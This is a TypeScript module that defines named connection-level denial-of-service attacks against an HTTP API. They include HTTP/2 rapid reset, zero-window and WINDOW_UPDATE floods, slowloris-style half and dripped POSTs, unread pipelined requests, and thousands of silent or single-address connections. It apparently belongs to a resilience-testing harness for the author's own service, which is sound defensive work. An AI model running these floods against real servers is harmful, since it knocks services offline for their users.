/**
 * Attacks by connections: they are opened, and not used as they should be.
 *
 * @module
 */

import type { Socket } from "node:net";
import type { AttackKind } from "./attack.ts";
import { crowd, onFour } from "./clients.ts";
import { flood, preface, requests } from "./http2_frames.ts";

const document = "/api/openapi.json";

function beginPost(socket: Socket, host: string): void {
  socket.write(`POST /v1/intake HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 60000\r\n\r\n{`);
  socket.resume();
}

/** All of them, by name. */
export const byConnections: Readonly<Record<string, AttackKind>> = {
  pipelined: {
    about: "1,000 connections that pipeline 90 GET /api/openapi.json each and never read",
    run: crowd(1_000, {}, (socket, host, { traffic }) => {
      socket.pause();
      traffic.requests += 90;
      socket.write(`GET ${document} HTTP/1.1\r\nHost: ${host}\r\n\r\n`.repeat(90));
    }),
  },
  zero_window: {
    about: "1,000 HTTP/2 connections with a window of 0, 100 GET /api/openapi.json on each",
    run: crowd(1_000, { isHttp2: true }, (socket, host, { traffic }) => {
      socket.resume();
      traffic.requests += 100;
      socket.write(Buffer.concat([preface(0), requests(host, document, { count: 100 })]));
    }),
  },
  window_updates: {
    about: "WINDOW_UPDATE frames without an end, on 4 HTTP/2 connections",
    run: (attacker) => {
      const frames = flood("window_update", 4_000);
      return onFour(() => frames, 4_000)(attacker);
    },
  },
  rapid_reset: {
    about: "HTTP/2 requests that are reset as soon as they are sent, on 4 connections",
    run: onFour(
      (host, round) => requests(host, document, { count: 100, first: 100 * round, isReset: true }),
      100,
    ),
  },
  half_posts: {
    about: "11,000 connections that begin a post and go silent",
    run: crowd(11_000, {}, beginPost),
  },
  dripped_posts: {
    about: "5,000 connections that send a byte of their post a second",
    run: crowd(5_000, {}, beginPost, (socket) => socket.write(" ")),
  },
  silent: {
    about: "11,000 connections that send nothing at all: a TLS handshake that hangs, or no request",
    run: crowd(11_000, { isBare: true }, () => {}),
  },
  one_address: {
    about: "one address that opens 3,000 connections and asks on each",
    run: crowd(3_000, { isFromOne: true }, (socket, host, { traffic }) => {
      socket.resume();
      traffic.requests += 1;
      socket.write(`GET /healthz HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
    }),
  },
};
